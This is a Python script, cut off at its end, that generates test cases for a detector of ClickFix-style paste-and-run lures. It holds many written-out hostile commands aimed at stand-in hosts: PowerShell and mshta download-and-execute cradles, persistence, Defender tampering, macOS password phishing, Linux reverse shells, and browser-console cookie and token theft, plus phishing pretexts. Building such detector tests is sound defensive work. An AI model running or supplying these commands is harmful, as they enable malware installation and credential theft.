"""Writes tests/data/cases/tech19.jsonl: lure techniques of 2025-2026 threat reports (ClickFix,
FileFix, fake CAPTCHA / browser update / meeting, KongTuke, ClearFake, cache smuggling, DNS
staging, macOS stealer chains, Linux variants, console and bookmarklet lures, ConsentFix,
device-code and callback phishing), each written anew, beside the admins' and developers'
legitimate version of the same act.

    python tests/data/cases/make_tech19.py

Deterministic (fixed lists). Hosts are reserved names (.test, .invalid, .example, documentation
address ranges); every text is written here, none copied from a lure collection, another
detector's fixtures or the blind sets. Each lure text is scanned twice: in its context (the
lure page, pasted where the page says: blocked, `malicious`) and bare (`flagged`). Look-alikes
are scanned from the page a legitimate user would copy them from (`not_flagged`).

The technique table (delivery wrapper, obfuscation, proxy, payload fetch, persistence, target
box) and the reports each comes from are in the comment above each list.
"""

from __future__ import annotations

import base64
from pathlib import Path

from casefile import Book, write  # beside this script (tests/data/cases/make_*.py)

book = Book("t19")


def ps_enc(command: str) -> str:
    return base64.b64encode(command.encode("utf-16-le")).decode()


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


GZ = base64.b64encode(b"\x1f\x8b\x08\x00" + bytes(range(40, 80))).decode()
EM = "\u2003"  # em space: pads the visible Run box
NB = "\u00a0"

CAPTCHA = [
    "https://verify.cloudgate-check.test/human",
    "https://captcha-ray.example/cdn-cgi/challenge",
    "https://www.orchard-recipes.example/blog/pie?cf=1",
    "https://secure-check.lumenfold.invalid/verify",
]
UPDATE = [
    "https://browser-update.hallowick.test/chrome",
    "https://edge-refresh.example/update-required",
    "https://www.quillbrook-news.example/2026/03/story",
]
MEET = [
    "https://meet-room.brandvale.test/j/88231",
    "https://zoom-join.example/wc/412-778",
    "https://teams-live.calderon.invalid/meetup/hr-review",
]
MAC = [
    "https://verify-macos.cobaltridge.test/step2",
    "https://github-verify.example/security-check",
    "https://appstore-fix.elmwick.invalid/mac",
]
LINUX = [
    "https://captcha.fernholt.test/linux",
    "https://docs-mirror.example/ubuntu/fix-dns",
]
DISCORD = [
    "https://verify-bot.glimmerhall.test/discord",
    "https://free-nitro.example/claim",
]

# ---- Windows: Run box, powershell cradle with a fake verification tail --------------------
# ClickFix "I am not a robot" comment padding (Proofpoint TA571 "self-pwn"; Sigma d487ed4a;
# John Hammond recaptcha-phish). Wrapper: fake CAPTCHA; obfuscation: comment tail; fetch: iwr/irm.
book.lures(
    "ps-cradle-verification-tail",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'powershell -nop -w hidden -c "irm https://rx.cloudgate-check.test/v2 | iex" '
        "# I'm not a robot - Ray ID 8a1f22c0",
        "pwsh -WindowStyle Hidden -Command \"iex (iwr 'https://198.51.100.61/k.ps1' -UseB)\""
        " ## Human verification complete: code 44-71",
        'powershell.exe -ep bypass -c "$r=iwr https://cdn.lumenfold.invalid/c.txt;iex $r.Content"'
        " :: Cloudflare check passed",
        "powershell -w 1 -c \"iex(New-Object Net.WebClient).DownloadString('http://203.0.113.84/a')\""
        " # reCAPTCHA verification ID: 55102",
    ],
)

# Unicode spaces push the command out of the Run box (Expel cache smuggling; Sigma 3ae9974a).
book.lures(
    "unicode-space-padding",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'powershell -w h -c "irm https://k.hallowick.test/s|iex"'
        + EM * 50
        + "# Verification code: 0x3F21 - press Enter",
        'cmd /c "curl -s https://192.0.2.140/r.bat -o %TEMP%\\r.bat && %TEMP%\\r.bat"'
        + NB * 70
        + "# Cloudflare Turnstile: you are human",
        "mshta https://gate.example/h.hta" + "\u2007" * 60 + "# ✔ Captcha solved",
    ],
)

# Homoglyph lure tail (Elastic fbad57ec lists mixed-script "human validation").
book.lures(
    "homoglyph-tail",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "mshta https://v.cloudgate-check.test/x.hta # hum\u0430n v\u0435rifi\u0441\u0430tion id 7741",
        'powershell -w h -c "iwr https://198.51.100.9/p|iex" # \u0406 \u0430m n\u03bft \u0430 r\u03bfb\u03bft',
    ],
)

# FileFix: pasted in Explorer's address bar / a file dialog, the visible part a fake path
# (mrd0x FileFix 2025-06; DFIR Report KongTuke->Interlock 2025-07-14; Check Point FileFix).
book.lures(
    "filefix-fake-path",
    "windows",
    "explorer_bar",
    [
        "https://hr-portal.brandvale.test/shared/policy",
        "https://docs-share.example/file/8812",
        "https://www.invoice-view.calderon.invalid/open",
    ],
    [
        'powershell -c "iwr https://203.0.113.5/f.ps1 -UseBasicParsing|iex"'
        + " " * 60
        + "# C:\\Company\\HR\\Payroll\\Bonus-2026.xlsx",
        'conhost --headless powershell -w h -c "irm hallowick.test/d|iex"'
        + " " * 50
        + "#  \\\\fileserver\\finance\\Q3\\statement.pdf",
        'cmd /c "curl -sLo %LOCALAPPDATA%\\v.exe https://dl.lumenfold.invalid/v && %LOCALAPPDATA%\\v.exe"'
        + " " * 55
        + "# C:\\Users\\Public\\Documents\\contract_signed.docx",
        "Powershell.exe -ep Bypass -w H -c \"$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent',"
        "'Office');$c.DownloadString('http://198.51.100.120/q')|iex\""
        + " " * 40
        + "# Invoice_44120.pdf",
    ],
)

# mshta with a URL, an IP written in hex or as one number (Unit 42 Lumma 2024-08; Sekoia
# Phantom Meet; Huntress stego write-up).
book.lures(
    "mshta-remote",
    "windows",
    "run_dialog",
    CAPTCHA + MEET,
    [
        "mshta https://fixmic.brandvale.test/audio-repair",
        "mshta.exe http://0xC6.0x33.0x64.0x17/verify.hta",
        "mshta http://3221225995/cap",
        'C:\\Windows\\SysWOW64\\mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run '
        '""powershell -w h irm 192.0.2.33/z|iex"",0:close")',
        "mshta javascript:a=GetObject('script:https://cdn.example/s.sct').Exec();close();",
    ],
)

# Remote MSI (eSentire NetSupport; Huntress Matanbuchus: mixed case, backslash URL).
book.lures(
    "msiexec-remote",
    "windows",
    "run_dialog",
    CAPTCHA + UPDATE,
    [
        "msiexec /i https://update.hallowick.test/chrome-update.msi /qn",
        "MsIeXeC.exe -PaCkAgE http:\\\\198.51.100.72\\pkg\\..\\v\\9912 /quiet",
        'msiexec.exe /q /i "https://cdn.lumenfold.invalid/captcha/check?id=551"',
        'powershell -w h -c "(New-Object -Com WindowsInstaller.Installer).InstallProduct('
        "'https://203.0.113.7/s.msi')\"",
    ],
)

# rundll32 / regsvr32 of a DLL on a WebDAV/UNC share (Zscaler COLDRIVER SIMPLEFIX; CyberProof).
book.lures(
    "dll-from-share",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "rundll32.exe \\\\check.cloudgate-check.test@SSL\\dav\\verify.dll,Confirm",
        "regsvr32 /s /n /u /i:https://198.51.100.14/s.sct scrobj.dll",
        "cmd /c cmdkey /add:203.0.113.90 /user:guest /pass:guest && regsvr32 /s "
        "\\\\203.0.113.90\\pub\\h.dll & REM Verified human",
        "rundll32 \\\\192.0.2.44@8080\\DavWWWRoot\\x.dll,#1",
    ],
)

# WebDAV drive mapped and a batch run from it, no PowerShell at all (Atos 2026-03).
book.lures(
    "net-use-webdav-batch",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "cmd /c net use Q: http://198.51.100.66/dav /persistent:no && Q:\\fix.cmd",
        'cmd.exe /c "net use * \\\\verify.hallowick.test@SSL\\share & \\\\verify.hallowick.test@SSL'
        '\\share\\run.bat"',
        "cmd /c pushd \\\\203.0.113.12\\s && start /b up.vbs",
    ],
)

# conhost --headless as a proxy (Zscaler MLTBackdoor), curl + tar + rundll32 chain.
book.lures(
    "conhost-headless",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'conhost.exe --headless cmd /c "curl -sLo %TEMP%\\k.zip https://192.0.2.101/k && tar -xf'
        ' %TEMP%\\k.zip -C %TEMP% && rundll32 %TEMP%\\k.dll,Run"',
        'C:\\Windows\\System32\\conhost.exe --headless powershell -ep bypass -c "irm '
        'lumenfold.invalid/a|iex"',
    ],
)

# finger.exe as a stager, caret-obfuscated (Huntress; KongTuke CrashFix).
book.lures(
    "finger-staging",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'cmd /c "f^i^n^g^e^r verify@198.51.100.25 | cmd"',
        '%COMSPEC% /c start "" /min for /f "skip=6 delims=" %q in (\'finger k7@hallowick.test\') do '
        "call %q & echo  Verification passed",
        "finger.exe gate@203.0.113.44 > %TEMP%\\g.cmd && %TEMP%\\g.cmd",
    ],
)

# DNS TXT staging (Microsoft 2026-02 KongTuke -> ModeloRAT).
book.lures(
    "dns-txt-staging",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'cmd /c for /f "tokens=*" %x in (\'nslookup -q=txt s1.hallowick.test 198.51.100.53 ^| find '
        '"v="\') do %x',
        'powershell -w h -c "iex (Resolve-DnsName -Type TXT t.lumenfold.invalid -Server '
        '203.0.113.53).Strings[0]"',
        "powershell -c \"$t=(Resolve-DnsName cfg.cloudgate-check.test TXT).Strings -join '';"
        '[ScriptBlock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($t)))"'
        "|iex",
        'cmd /c "nslookup -type=TXT x.cloudgate-check.test 192.0.2.53 > %TEMP%\\x.txt & powershell '
        '-c gc $env:TEMP\\x.txt|select -Last 1|iex"',
    ],
)

# certutil / bitsadmin downloaders (LOLBAS; still in 2025 ClickFix batches).
book.lures(
    "certutil-bitsadmin-fetch",
    "windows",
    "run_dialog",
    CAPTCHA + UPDATE,
    [
        "certutil -urlcache -split -f https://198.51.100.31/u.exe %TEMP%\\u.exe && %TEMP%\\u.exe",
        "certutil.exe -verifyctl -f -split http://203.0.113.18/p.txt %PUBLIC%\\p.exe & start "
        "%PUBLIC%\\p.exe",
        "bitsadmin /transfer upd /priority foreground https://update.hallowick.test/c.exe "
        "%APPDATA%\\c.exe & start %APPDATA%\\c.exe",
        'powershell -c "Start-BitsTransfer https://192.0.2.77/s.exe $env:TEMP\\s.exe; &'
        ' $env:TEMP\\s.exe"',
    ],
)

# VBS via curl + wscript / cscript, and a VBS written with echo (ClickGrab captures).
book.lures(
    "vbs-script-host",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'cmd /c "curl -s http://198.51.100.90:8081/v.vbs -o %TEMP%\\v.vbs && wscript //B '
        '%TEMP%\\v.vbs"',
        'cmd /c echo Set h=CreateObject("MSXML2.XMLHTTP"):h.Open "GET","http://203.0.113.3/p",'
        "False:h.Send:Execute h.responseText > %TEMP%\\a.vbs & cscript //nologo %TEMP%\\a.vbs",
        'cmd /c "bitsadmin /transfer j http://192.0.2.8/r.js %TEMP%\\r.js & wscript /e:jscript '
        '%TEMP%\\r.js"',
    ],
)

# PowerShell -EncodedCommand (eSentire; Rapid7 fake installer).
ENC = [
    "iex (irm https://hallowick.test/x)",
    "$w=New-Object Net.WebClient;iex $w.DownloadString('http://198.51.100.5/s')",
    "Start-Process -WindowStyle Hidden $env:TEMP\\u.exe -ArgumentList '/s'; iwr "
    "https://cdn.lumenfold.invalid/u.exe -OutFile $env:TEMP\\u.exe",
]
book.lures(
    "ps-encoded-command",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        f"powershell -w h -e {ps_enc(ENC[0])}",
        f"PoWeRsHeLl.exe -NoP -NonI -EncodedCommand {ps_enc(ENC[1])}",
        f"pwsh -ec {ps_enc(ENC[2])}",
    ],
)

# Base64 in the command, decoded at run time, mixed case (ClickGrab capture; KongTuke).
book.lures(
    "ps-base64-runtime-decode",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "POWERshell -W h \"iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('"
        + b64("irm https://k.cloudgate-check.test/s | iex")
        + "')))\"",
        "powershell -c \"$d=[System.Convert]::FromBase64String('"
        + b64("iwr http://192.0.2.19/c -UseB|iex")
        + "');&([scriptblock]::Create([Text.Encoding]::ASCII.GetString($d)))\"",
    ],
)

# Aliases and wildcard command lookup (issue 9; KongTuke 2025 batches).
book.lures(
    "ps-alias-wildcard-lookup",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "powershell -w h -c \"&(gal i?x) (&(gcm i*e-w*t) 'https://198.51.100.12/a' -UseB)\"",
        "powershell -c \"$u='http://hallowick.test/r';.(gcm *ke-Ex*) ((&(gcm *-RestM*) $u))\"",
        'powershell -c "& (Get-Command I*ke-Exp*) (irm https://203.0.113.21/z)"',
    ],
)

# Property chain and string building (Fortinet "From ClickFix to Command").
book.lures(
    "ps-string-building",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "powershell IEX ((Invoke-RestMethod -Uri https://lumenfold.invalid/j -Method Get).data.cmd)",
        "powershell -c \"$a='ht'+'tps://198.51.100.'+'44/q';iex(iwr $a -UseBasicParsing)\"",
        "powershell -c \"iex(irm ('{1}{0}' -f 'llowick.test/p','https://ha'))\"",
        "powershell -c \"$u=-join('p/tset.kciwollah//:sptth'[-1..-24]);iex(irm $u)\"",
        'powershell -c "iex(irm ([char[]](104,116,116,112,58,47,47,49,57,50,46,48,46,50,46,57,47,'
        "120)-join''))\"",
    ],
)

# cmd variable splitting and delayed expansion (eSentire; Rapid7).
book.lures(
    "cmd-variable-splitting",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'cmd /v:on /c "set a=power&&set b=shell&&!a!!b! -w h -c irm 198.51.100.88/x^|iex"',
        'cmd /c "set p=pow%COMSPEC:~-1%rshell & call %p% -c iwr hallowick.test/k -useb|iex"',
        'cmd /V /C "set u=https://lumenfold.invalid/r&&set c=curl -s&&!c! !u! -o %TEMP%\\r.exe&&'
        '%TEMP%\\r.exe"',
    ],
)

# WMI / pcalua / forfiles proxies (Unit 42 2026-08-05 davclnt; LOLBAS).
book.lures(
    "proxy-launchers",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'pcalua.exe -a powershell -c "-w h -c irm https://198.51.100.70/p|iex"',
        'forfiles /p C:\\Windows\\System32 /m notepad.exe /c "cmd /c curl -s http://203.0.113.2/s.bat'
        ' -o %TEMP%\\s.bat&%TEMP%\\s.bat"',
        'wmic process call create "powershell -w h -c iex(irm hallowick.test/w)"',
        "powershell -c \"([wmiclass]'Win32_Process').Create('cmd /c pushd \\\\192.0.2.55@SSL\\d & "
        "rundll32 k.key,#1')\"",
        'C:\\Windows\\System32\\SyncAppvPublishingServer.vbs "n;iex(irm https://lumenfold.invalid/s)"',
    ],
)

# Cache smuggling: the page cached the payload as an image, the command carves it out of the
# browser cache (Expel "cache smuggling"; Kaspersky FileFix; Sigma PR #6078).
book.lures(
    "cache-smuggling",
    "windows",
    "explorer_bar",
    CAPTCHA,
    [
        'powershell -w h -c "$f=gci \\"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Cache'
        '\\Cache_Data\\" -File|sort LastWriteTime -Desc|select -f 20;foreach($x in $f){$t=[IO.File]'
        "::ReadAllText($x.FullName);if($t -match 'BEGINX(.*?)ENDX'){[IO.File]::WriteAllBytes("
        '\\"$env:TEMP\\u.zip\\",[Convert]::FromBase64String($matches[1]));Expand-Archive '
        '$env:TEMP\\u.zip $env:TEMP\\u -Force;start $env:TEMP\\u\\run.exe}}"'
        + " " * 40
        + "# C:\\Shares\\IT\\VPN-setup-guide.pdf",
        'powershell -c "$c=\\"$env:LOCALAPPDATA\\Microsoft\\Edge\\User Data\\Default\\Cache\\'
        'Cache_Data\\";$b=gc -Raw -Enc Byte (gci $c|sort Length -Desc)[0].FullName;'
        '[IO.File]::WriteAllBytes(\\"$env:TEMP\\s.exe\\",$b[512..($b.Length-1)]);'
        'saps $env:TEMP\\s.exe"',
    ],
)

# Steganography: script pulls a PNG and rebuilds code from its pixels (Huntress 2025).
book.lures(
    "stego-image-loader",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'powershell -w h -c "Add-Type -A System.Drawing;$i=[Drawing.Bitmap]::FromStream((iwr '
        "https://198.51.100.91/logo.png).RawContentStream);$o=foreach($y in 0..99){foreach($x in "
        '0..99){$i.GetPixel($x,$y).R}};iex([Text.Encoding]::ASCII.GetString([byte[]]$o))"',
        "powershell -c \"$w=New-Object Net.WebClient;$p=$w.DownloadData('http://hallowick.test/"
        "banner.png');$s=[Text.Encoding]::UTF8.GetString($p[4096..($p.Length-1)]);iex $s\"",
    ],
)

# Hex and XOR blobs (Microsoft 2026-03 Windows Terminal variant).
book.lures(
    "ps-hex-xor-blob",
    "windows",
    "terminal",
    CAPTCHA,
    [
        "$h='69727220687474703a2f2f3139322e302e322e36332f78207c20696578';$s=-join($h -split "
        "'(..)'|?{$_}|%{[char][Convert]::ToByte($_,16)});iex $s",
        "$k=23;$b=[Convert]::FromBase64String('"
        + base64.b64encode(bytes(c ^ 23 for c in b"irm https://lumenfold.invalid/z|iex")).decode()
        + "');iex(-join($b|%{[char]($_ -bxor $k)}))",
    ],
)

# Persistence planted from the paste (schtasks / Run key) with the download.
book.lures(
    "persistence-from-paste",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'schtasks /create /sc minute /mo 15 /tn "EdgeUpdateCore" /tr "powershell -w h -c irm '
        'https://198.51.100.40/t|iex" /f',
        'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneSync /d "mshta '
        'https://hallowick.test/p.hta" /f',
        'powershell -c "iwr https://203.0.113.66/a.exe -o $env:APPDATA\\a.exe;New-ItemProperty '
        'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name a -Value $env:APPDATA\\a.exe"',
    ],
)

# Defender weakened before the download (many 2025 ClickFix stages).
book.lures(
    "defender-exclusion-then-fetch",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'powershell -w h -c "Add-MpPreference -ExclusionPath $env:TEMP;iwr https://198.51.100.17/'
        's.exe -o $env:TEMP\\s.exe;saps $env:TEMP\\s.exe"',
        'powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true; irm hallowick.test/r|iex"',
    ],
)

# Archive fetched, expanded and started (KongTuke Interlock; Lumma zip loaders).
book.lures(
    "archive-expand-start",
    "windows",
    "run_dialog",
    CAPTCHA + MEET,
    [
        'powershell -w h -c "iwr https://fixmic.brandvale.test/drv.zip -OutFile $env:TEMP\\d.zip;'
        'Expand-Archive $env:TEMP\\d.zip $env:TEMP\\d -Force;& $env:TEMP\\d\\AudioFix.exe"',
        'cmd /c "curl -sL -o %TEMP%\\p.zip http://198.51.100.23/p.zip && tar -xf %TEMP%\\p.zip -C '
        '%TEMP% && start "" %TEMP%\\p\\setup.exe"',
    ],
)

# The payload wipes the clipboard afterwards (Proofpoint TA571).
book.lures(
    "self-clearing-clipboard",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "powershell -w h -c \"iex(irm https://hallowick.test/c);Set-Clipboard -Value ' '\"",
        "powershell -c \"irm 198.51.100.29/x|iex;Set-Clipboard ''\"",
    ],
)

# Python stagers on Windows (CrashFix / Microsoft 2026-02 python RAT).
book.lures(
    "python-stager",
    "any",
    "run_dialog",
    CAPTCHA + UPDATE,
    [
        "python -c \"import urllib.request as u;exec(u.urlopen('https://198.51.100.50/r.py').read())\"",
        "pythonw.exe -c \"exec(__import__('urllib.request').request.urlopen('http://hallowick.test/p')"
        '.read().decode())"',
        'py -c "import base64,urllib.request;exec(base64.b64decode(urllib.request.urlopen('
        "'https://lumenfold.invalid/b').read()))\"",
    ],
)

# Fake browser update (ClearFake, SocGholish-style) asking for a command.
book.lures(
    "fake-browser-update",
    "windows",
    "run_dialog",
    UPDATE,
    [
        'powershell -w h -c "iwr https://update.hallowick.test/ChromeSetup.exe -OutFile '
        '$env:TEMP\\ChromeSetup.exe; saps $env:TEMP\\ChromeSetup.exe"  # Chrome update 131.0.2',
        'cmd /c start /min powershell -c "irm https://edge-refresh.example/u.ps1|iex" & echo '
        "Browser update installing...",
    ],
)

# Fake meeting: "your microphone is blocked, run this fix" (Sekoia Phantom Meet; BleepingComputer).
book.lures(
    "fake-meeting-fix",
    "windows",
    "run_dialog",
    MEET,
    [
        'powershell -w h -c "irm https://fixmic.brandvale.test/a|iex" # Zoom audio driver repair',
        "mshta https://teams-live.calderon.invalid/camera-fix # Microsoft Teams: camera permission "
        "reset",
        'cmd /c "curl -s https://198.51.100.102/meet.bat|cmd" & REM Google Meet: microphone fixed',
    ],
)

# EtherHiding: the next stage sits in a smart contract, read with eth_call (Google GTIG 2025;
# ClearFake on BSC testnet).
book.lures(
    "etherhiding-contract-fetch",
    "windows",
    "run_dialog",
    UPDATE,
    [
        "powershell -w h -c \"$b=@{jsonrpc='2.0';method='eth_call';params=@(@{to='0x7a1e52c9"
        "b1d4a8e2f0c3';data='0x6d4ce63c'},'latest');id=1}|ConvertTo-Json -D 5;$r=irm "
        "https://rpc.bsc-node.example -Method Post -Body $b -ContentType application/json;"
        "$h=$r.result.Substring(130);iex(-join($h -split '(..)'|?{$_}|%{[char][Convert]::ToByte($_,16)}))\"",
    ],
)

# ---- macOS -------------------------------------------------------------------------------
# curl | osascript (Netskope); do shell script with admin; base64 | zsh (Recorded Future
# Odyssey, MacSync); xattr strip chain; env-var prefix (PasteSwitch); password phish (dscl).
book.lures(
    "curl-to-osascript",
    "macos",
    "terminal",
    MAC,
    [
        'curl -ks --max-time 20 "https://cobaltridge.test/d/run.applescript?b=91c2" | osascript',
        'osascript -e "$(curl -fsSL http://198.51.100.77/m.scpt)"',
        "curl -s https://elmwick.invalid/s | osascript -l JavaScript",
    ],
)
book.lures(
    "osascript-do-shell-script",
    "macos",
    "terminal",
    MAC,
    [
        'osascript -e \'do shell script "curl -fsSL https://203.0.113.15/i.sh | bash" with '
        "administrator privileges'",
        "osascript -e 'set p to text returned of (display dialog \"macOS needs your password to "
        'continue" default answer "" with hidden answer)\' -e \'do shell script "echo " & p & " | '
        "curl -d @- https://cobaltridge.test/k\"'",
    ],
)
book.lures(
    "base64-pipe-shell-mac",
    "macos",
    "terminal",
    MAC,
    [
        f"echo '{b64('curl -fsSL http://192.0.2.66/u | bash &')}' | base64 -D | zsh",
        f'bash -c "$(echo {b64("curl -s https://elmwick.invalid/s.sh -o /tmp/s.sh; bash /tmp/s.sh")}'
        ' | base64 --decode)"',
        f"echo {GZ} | base64 -D | gunzip | sh",
    ],
)
book.lures(
    "homebrew-lookalike",
    "macos",
    "terminal",
    ["https://brew-sh.example/", "https://homebrew-install.cobaltridge.test/"],
    [
        '/bin/bash -c "$(curl -fsSL https://homebrew-install.cobaltridge.test/install.sh)"',
        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.example/Homebrew/install/HEAD/'
        'install.sh)"',
        '/bin/zsh -c "$(curl -fsSL http://198.51.100.202/brew.sh)"',
    ],
)
book.lures(
    "quarantine-strip-chain",
    "macos",
    "terminal",
    MAC,
    [
        "curl -so /tmp/helper https://elmwick.invalid/helper && xattr -c /tmp/helper && chmod +x "
        "/tmp/helper && /tmp/helper",
        "cd ~/Downloads && curl -LO http://203.0.113.8/Installer.zip && unzip -q Installer.zip && "
        "xattr -dr com.apple.quarantine Installer.app && open Installer.app",
    ],
)
book.lures(
    "env-prefix-disguise",
    "macos",
    "terminal",
    MAC,
    [
        'export BUILD_ID=4.2.1 export _cache_key=9d1e curl -fsS "https://cobaltridge.test/k/setup" | zsh',
        'LANG=en_US.UTF-8 TERM_SESSION=a81 curl -s "http://198.51.100.3/p/setup.sh" | bash',
    ],
)
book.lures(
    "password-phish-dscl",
    "macos",
    "terminal",
    MAC,
    [
        'read -s -p "Password: " P; dscl . -authonly "$USER" "$P" && curl -s -d "u=$USER&p=$P" '
        "https://elmwick.invalid/c",
        'printf "Enter your Mac password: "; read -rs pw; echo "$pw" | sudo -S xattr -cr /Applications'
        "/Helper.app; curl -s http://203.0.113.19/r | sh",
    ],
)
book.lures(
    "nohup-background-fetch",
    "macos",
    "terminal",
    MAC,
    [
        "nohup bash -c 'curl -fsSL https://198.51.100.48/a | bash' >/dev/null 2>&1 &",
        "(curl -s http://cobaltridge.test/agent -o $TMPDIR/agent && chmod +x $TMPDIR/agent && "
        "$TMPDIR/agent) &>/dev/null & disown",
    ],
)

# ---- Linux -------------------------------------------------------------------------------
# Hunt.io APT36 / PurpleShift Linux ClickFix: curl|bash, wget to /tmp, crontab, reverse shell.
book.lures(
    "linux-fetch-run",
    "linux",
    "terminal",
    LINUX,
    [
        "curl -s http://198.51.100.130/l.sh | sudo bash",
        "wget -qO /tmp/.x https://fernholt.test/k && chmod +x /tmp/.x && /tmp/.x",
        'sh -c "$(wget -qO- http://192.0.2.150/i)"',
        "curl -fsSL https://fernholt.test/x.sh -o /dev/shm/x.sh; bash /dev/shm/x.sh",
    ],
)
book.lures(
    "linux-cron-persistence",
    "linux",
    "terminal",
    LINUX,
    [
        '(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s http://198.51.100.131/b | sh") | crontab -',
        "echo '@reboot root wget -qO- https://fernholt.test/p | sh' | sudo tee /etc/cron.d/sysupd",
    ],
)
book.lures(
    "linux-reverse-shell",
    "linux",
    "terminal",
    LINUX,
    [
        "bash -i >& /dev/tcp/198.51.100.140/4444 0>&1",
        "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.140 9001 >/tmp/f",
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.140",443));'
        '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'',
    ],
)

# ---- Browser console / bookmarklet (self-XSS; Discord/Roblox "verification") ---------------
book.lures(
    "console-remote-eval",
    "any",
    "browser_console",
    DISCORD,
    [
        "fetch('https://glimmerhall.test/v.js').then(r=>r.text()).then(eval)",
        "$.getScript('https://198.51.100.160/bot-verify.js')",
        "var s=document.createElement('script');s.src='https://cdn.glimmerhall.test/x.js';"
        "document.body.appendChild(s)",
        "new Function(atob('"
        + b64("fetch('https://x.example/k').then(r=>r.text()).then(eval)")
        + "'))()",
    ],
)
book.lures(
    "console-token-theft",
    "any",
    "browser_console",
    DISCORD,
    [
        "fetch('https://glimmerhall.test/c',{method:'POST',body:document.cookie})",
        "new Image().src='https://203.0.113.161/t?d='+encodeURIComponent(localStorage.getItem('token'))",
        "let t;webpackChunkdiscord_app.push([[Symbol()],{},r=>{for(let m of Object.values(r.c))"
        "if(m.exports?.default?.getToken)t=m.exports.default.getToken()}]);"
        "navigator.sendBeacon('https://free-nitro.example/g',t)",
    ],
)
book.lures(
    "bookmarklet-lure",
    "any",
    "other",
    DISCORD,
    [
        "javascript:fetch('https://glimmerhall.test/b.js').then(r=>r.text()).then(eval)",
        "  javascript:(function(){var s=document.createElement('script');s.src='//198.51.100.163/r.js';"
        "document.head.appendChild(s)})()",
        "javascript:void(new Image().src='https://free-nitro.example/l?c='+document.cookie)",
    ],
)

# ---- ConsentFix: a loopback redirect carrying an OAuth code, pasted back to a page ----------
book.lures(
    "consentfix-loopback-code",
    "any",
    "other",
    ["https://sso-check.calderon.invalid/verify", "https://teams-access.example/connect"],
    [
        "http://localhost:50211/?code=1.ARsAx9Wq7hQZlEy0Ab3kPQZmUgz4cV9bC2xTnL5w8hYk&state="
        "a8Gk2LpQ&session_state=00b1c7e2-9d3a",
        "http://127.0.0.1:8765/callback?code=M.R3_BAY.4c1f9e2a-77d0-bb11-c0de-5e6f7a8b9c0d&state=zz91",
    ],
)

# ---- Device-code phishing text (Microsoft Storm-2372 2025; Volexity) -----------------------
book.lures(
    "device-code-pretext",
    "any",
    "other",
    ["https://docs-share.example/file/8812", "https://hr-portal.brandvale.test/shared/policy"],
    [
        "To open the shared payroll file, go to https://microsoft.com/devicelogin and enter code "
        "KQ7M-4RZT. The link expires in 15 minutes.",
        "Your Teams meeting invite requires verification: visit microsoft.com/devicelogin and "
        "type the code H2X9PL4W to join the interview.",
    ],
)

# ---- Callback phishing (TOAD: BazarCall-style order / renewal notices) --------------------
book.lures(
    "callback-order-notice",
    "any",
    "other",
    ["https://mail.example/inbox/4411"],
    [
        "Your Norton 360 Deluxe subscription was renewed for $399.99 today. If you did not "
        "authorise this charge, call our billing desk at +1 (808) 555-0148 within 24 hours to "
        "cancel and get a refund.",
        "Order #A-55120 confirmed: Geek Squad Total Protection, $489.00 charged to your card. To "
        "dispute, contact support immediately at 1-808-555-0192.",
    ],
)

# ---- More Windows surfaces -------------------------------------------------------------
# search-ms: / Explorer opening a WebDAV folder the page controls (Trustwave 2024; Atos 2026).
book.lures(
    "search-ms-webdav",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "search-ms:query=invoice&crumb=location:\\\\198.51.100.210@SSL\\DavWWWRoot\\docs&"
        "displayname=Downloads",
        'explorer.exe "search-ms:query=setup&crumb=location:\\\\files.hallowick.test@8080\\'
        'DavWWWRoot&displayname=Verified"',
        "explorer \\\\203.0.113.77@SSL\\DavWWWRoot\\verify",
    ],
)

# Script and program started straight from a stranger's share or web folder.
book.lures(
    "run-from-unc",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "powershell -ep bypass -File \\\\198.51.100.211\\pub\\check.ps1",
        "wscript \\\\files.lumenfold.invalid@SSL\\s\\verify.js",
        "\\\\203.0.113.212\\share\\HumanCheck.exe /silent",
        "cmd /c start \\\\192.0.2.213@80\\x\\run.bat",
        "cmd /c pushd \\\\198.51.100.214\\d && call go.cmd",
    ],
)

# curl's answer piped into powershell's standard input, and HttpClient cradles.
book.lures(
    "stdin-and-dotnet-cradles",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "cmd /c curl -s https://198.51.100.215/p | powershell -",
        "powershell -w h -c \"$c=[Net.Http.HttpClient]::new();iex $c.GetStringAsync('https://"
        "hallowick.test/h').Result\"",
        'powershell -c "$ExecutionContext.InvokeCommand.InvokeScript((irm lumenfold.invalid/e))"',
